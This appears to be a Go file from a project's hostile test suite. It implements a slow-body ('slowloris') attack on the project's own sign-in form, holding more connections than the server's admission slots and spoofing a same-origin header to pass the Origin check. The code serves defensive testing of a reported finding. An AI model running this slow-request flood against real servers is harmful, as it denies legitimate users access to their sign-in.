//go:build hostile

// Attack 12 (issue 21, finding 1): sign-in forms whose body never arrives.
// It needs no key, so it is the one attack anyone on the network can run.

package hostile

import (
	"bufio"
	"context"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// slowBody is the Content-Length the slow sign-in announces: a few hundred
// bytes, as a real form, of which it sends one a second.
const slowBody = 400

// slowConns is how many slow sign-ins attack 12 keeps open: more than the
// server's 64 admission slots (--max-inflight), so that a server that lets
// a request without a key hold a slot has none left for anyone.
func slowConns(p int) int { return max(80, 5*p) }

// slowLogin (issue 21, finding 1) POSTs the web UI's sign-in form with a
// Content-Length of slowBody bytes and sends the body one byte a second, so
// that the request does not end within a phase. The Origin is the server's
// own, as a browser on its sign-in page sends it, so the request passes the
// Origin/Host check and reaches the handler that reads the form (the
// sign-in form carries no CSRF token: there is no session yet). An answer,
// or a connection the server closes, sends the worker straight to a new
// connection.
func slowLogin(ctx context.Context, a *attacker, hc *http.Client, worker int, rng *rand.Rand) {
	tl := tallyOf(hc)
	host := strings.TrimPrefix(a.base, "http://")
	for ctx.Err() == nil {
		if err := slowLoginOnce(ctx, a.base, host, tl); err != nil {
			// The dial failed: a moment's pause keeps a refusing listener
			// from turning the attacker into a busy loop of its own.
			select {
			case <-ctx.Done():
			case <-time.After(50 * time.Millisecond):
			}
		}
	}
}

// slowLoginOnce runs one slow sign-in until the server answers or closes
// the connection or ctx ends; the answer is counted in tl. Only a failed
// dial is returned.
func slowLoginOnce(ctx context.Context, base, host string, tl *tally) error {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", host)
	if err != nil {
		if ctx.Err() == nil {
			tl.err(err)
		}
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	head := slowHead(base, host)
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		switch {
		case err != nil && ctx.Err() != nil:
			tl.err(context.Canceled) // the attack ended, not the server
		case err != nil:
			tl.err(fmt.Errorf("slow sign-in: %w", err))
		default:
			tl.status(resp.StatusCode)
			resp.Body.Close()
		}
	}()
	if _, err := conn.Write([]byte(head)); err != nil {
		conn.Close()
		<-answered
		return nil
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for sent := len("key="); sent < slowBody; sent++ {
		select {
		case <-answered:
			return nil
		case <-ctx.Done():
			<-answered // the AfterFunc closed the connection
			return nil
		case <-tick.C:
		}
		if _, err := conn.Write([]byte{'a'}); err != nil {
			break
		}
	}
	conn.Close()
	<-answered
	return nil
}

// slowHead is the start of attack 12's request: the headers and the
// body's first bytes.
func slowHead(base, host string) string {
	return fmt.Sprintf("POST /login HTTP/1.1\r\nHost: %s\r\nOrigin: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\nkey=",
		host, base, slowBody)
}

// checkSignInReached sends attack 12's request once at full speed, with a
// key nobody has, and wants the sign-in's refusal of that key (401): the
// proof that the slow requests get as far as the form reader. From the
// slow requests themselves nothing tells: net/http reads what is left of a
// body before it sends any answer, so even a 403 of the Origin check would
// arrive only at the read deadline.
func checkSignInReached(t *testing.T, base string) {
	t.Helper()
	host := strings.TrimPrefix(base, "http://")
	conn, err := net.DialTimeout("tcp", host, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	req := slowHead(base, host) + strings.Repeat("a", slowBody-len("key="))
	if _, err := conn.Write([]byte(req)); err != nil {
		t.Fatalf("Anmeldeformular: %v", err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("Anmeldeformular: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("Anmeldeformular: die Anfrage von Angriff 12, schnell gesendet, bekam %d statt 401 (unbekannter Schlüssel): sie erreicht das Formular nicht", resp.StatusCode)
	}
}

// tallyOf is the tally an attack's client counts its answers in, for an
// attack that speaks HTTP over its own connections.
func tallyOf(hc *http.Client) *tally {
	if c, ok := hc.Transport.(counting); ok {
		return c.t
	}
	return newTally("ungezählt")
}
